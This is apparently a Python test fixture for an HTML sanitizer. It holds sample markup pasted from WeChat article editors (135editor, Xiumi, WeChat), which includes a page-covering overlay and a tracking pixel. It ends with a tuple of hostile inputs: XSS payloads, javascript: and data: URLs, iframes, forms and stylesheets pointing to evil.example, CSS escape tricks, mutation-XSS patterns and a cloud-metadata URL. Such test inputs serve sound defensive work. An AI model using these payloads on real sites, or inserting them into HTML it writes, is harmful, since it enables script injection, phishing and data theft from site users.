# ruff: noqa: E501
"""Pasted texts as the editors for WeChat articles put them on the clipboard, and as somebody with bad intent would."""

EDITOR_135 = """
<section data-role="outer" label="Powered by 135editor.com" style="font-size:16px;">
<section class="_135editor" data-tools="135编辑器" data-id="86295" style="border:0px none;padding:0px;box-sizing:border-box;">
<section style="margin: 10px auto;display: flex;justify-content: center;">
<section style="background-color:#1e9be8;padding:4px 18px;border-radius:20px;box-shadow: 3px 3px 0px #b6e4fd;">
<p style="color:#ffffff;font-size:18px;letter-spacing:1.5px;"><strong class="135brush" data-brushtype="text">冬季护心指南</strong></p>
</section></section></section>
<section class="_135editor" data-id="95121"><section style="border-left:4px solid rgb(30, 155, 232);padding:6px 12px;background:rgb(245, 250, 254);">
<p style="text-align:justify;line-height:1.75em;text-indent:2em;font-family:微软雅黑;"><span style="font-size:15px;color:#3f3f3f;">天冷血管收缩，<span style="color: rgb(255, 104, 39);">血压容易升高</span>。</span></p>
</section></section>
<p style="text-align:center;"><img src="https://image2.135editor.com/cache/remote/aHR0cHM6Ly9tbWJpei5xbG9nby5jbi9tbWJpel9wbmc=" style="width:100%;vertical-align:baseline;" data-ratio="0.56" data-w="1080"/></p>
<section style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:9999;"><p>盖住整页</p></section>
<img src="https://report.135editor.com/t.gif" width="1" height="1"/>
</section>
"""

XIUMI = """
<section style="box-sizing: border-box; font-size: 16px;" class="xmyeditor"><section style="text-align: center; justify-content: center; display: flex; flex-flow: row nowrap; margin: 10px 0px; box-sizing: border-box;">
<section style="display: inline-block; vertical-align: top; width: 30%; padding: 0px 5px; align-self: center; flex: 0 0 auto; box-sizing: border-box;"><section style="margin: 0px; transform: rotateZ(357deg); box-sizing: border-box;"><img class="raw-image" style="vertical-align: middle; max-width: 100%; width: 100%; box-sizing: border-box;" data-ratio="1" data-w="640" src="//img.xiumi.us/xmi/ua/1abcd/i/9f.png?x-oss-process=style/xmwebp"></section></section>
<section style="display: inline-block; vertical-align: top; width: 70%; border-style: dashed; border-width: 1px; border-color: rgb(249, 110, 87); border-radius: 10px; background-image: linear-gradient(90deg, rgb(255, 240, 237) 0%, rgb(255, 255, 255) 100%);"><p style="white-space: normal; margin: 0px; padding: 0px;">孩子发热先看精神</p></section></section>
<svg viewBox="0 0 1 1" style="float:left;line-height:0;width:0;vertical-align:top;"><animate attributeName="opacity" begin="click"/></svg>
<table style="width:100%;border-collapse:collapse"><tbody><tr><td colspan="2" style="border:1px solid #ccc;padding:5px">体温</td></tr></tbody></table></section>
"""

WECHAT = """
<p style="margin-bottom: 24px;outline: 0px;visibility: visible;"><span leaf="" style="font-size: 17px;">门诊时间调整</span></p>
<p><img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/mmbiz_png/abc/640?wx_fmt=png&amp;from=appmsg" data-type="png" data-w="900"></p>
<iframe class="video_iframe rich_pages" data-vidtype="2" data-src="https://v.qq.com/iframe/preview.html?width=500&amp;height=375&amp;auto=0&amp;vid=x3530ywyp4b" allowfullscreen></iframe>
<mp-common-profile class="js_uneditable" data-nickname="别的号"></mp-common-profile>
<p><a class="weapp_text_link" data-miniprogram-appid="wx1" href="">打开小程序</a> <a href="https://mp.weixin.qq.com/s/abc?a=1&amp;b=2" textvalue="往期">往期</a></p>
"""

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="vbscript:x">y</a>',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://v.qq.com.evil.example/?vid=abcdefgh"></iframe><iframe src="https://v.qq.com@evil.example/?vid=abcdefgh">',
    "<form action=https://evil.example><input name=id><button>领奖</button></form>",
    '<p style="position:fixed;top:0;left:0;z-index:99">x</p><p style="POSITION : absolute">y</p>',
    '<p style="background:url(javascript:alert(1))">x</p><p style="background-image:url(https://evil.example/t.gif)">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">x</p>',
    '<p style="color:red}body{display:none">x</p><p style="color:red;}</style><script>alert(1)</script>">x</p>',
    "<p style=\"font-size:14px;content:'x';color:var(--x)\">x</p>",
    '<p style="color:\\72 ed;background:\\75rl(https://evil.example)">x</p>',
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template><object data=x></object><embed src=x><base href=//evil.example>",
    '<img src="https://evil.example/a.png" width="1" height="1"><img src="http://169.254.169.254/latest/meta-data">',
    '<p class="ph-tabbar" id="main" data-island="x" hx-get="/staff/" data-hx-get="/staff/" data-ph-image="1">x</p>',
    '<img data-ph-image="1 onerror=alert(1)" data-ph-source="javascript:alert(1)">',
    '<p data-ph-video="x&quot; onload=alert(1)">x</p>',
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<p style=margin:-9999px;text-indent:-9999px;opacity:0>x</p>",
)
